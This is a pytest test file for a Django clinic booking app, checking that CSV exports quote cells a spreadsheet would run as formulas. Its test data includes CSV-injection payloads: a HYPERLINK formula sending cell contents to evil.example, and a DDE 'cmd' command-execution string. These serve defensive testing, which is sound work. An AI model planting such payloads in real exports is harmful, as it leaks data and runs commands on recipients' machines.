"""CSV exports neutralise cells a spreadsheet would run as a formula (clinic.csv_export)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from clinic.csv_export import csv_safe_cell, csv_writer
from tests.booking.factories import AppointmentFactory, clinic_setup

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]
)
def test_text_that_could_start_a_formula_is_quoted(text):
    assert csv_safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Casey", "", " =not first", "a=b", 5, -5, 2.5, None])
def test_other_cells_are_left_alone(value):
    assert csv_safe_cell(value) == value


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", "score"])
    writer.writerows([[HYPERLINK, -3], ["@x", "ok"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "score"], ["'" + HYPERLINK, "-3"], ["'@x", "ok"]]


@pytest.mark.django_db
def test_day_sheet_csv_with_a_client_named_like_a_formula(client, personas):
    location, service, (therapist,) = clinic_setup()
    personas.client.first_name = HYPERLINK
    personas.client.save()
    starts_at = timezone.now().replace(microsecond=0) + dt.timedelta(days=1)
    AppointmentFactory(
        client=personas.client,
        therapist=therapist,
        service=service,
        location=location,
        room=location.rooms.first(),
        starts_at=starts_at,
    )
    client.force_login(personas.front_desk)
    day = starts_at.astimezone(location.zone).date()
    url = reverse("booking:board-sheet")
    response = client.get(url, {"location": location.slug, "day": day, "format": "csv"})

    assert response.status_code == 200
    [header, row] = list(csv.reader(io.StringIO(response.content.decode())))
    client_cell = row[header.index("client")]
    assert client_cell.startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.django_db
def test_reports_csv_neutralises_a_therapist_named_like_a_formula(client, personas):
    location, _service, (therapist,) = clinic_setup()
    therapist.display_name = "@SUM(1+1)*cmd"
    therapist.save()
    client.force_login(personas.clinic_admin)
    today = timezone.localdate()
    query = {
        "location": location.slug,
        "first_day": today - dt.timedelta(days=7),
        "last_day": today,
        "format": "csv",
    }
    response = client.get(reverse("booking:reports"), query)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = [row[1] for row in rows if row[0] == "utilisation"]
    assert names == ["'@SUM(1+1)*cmd"]
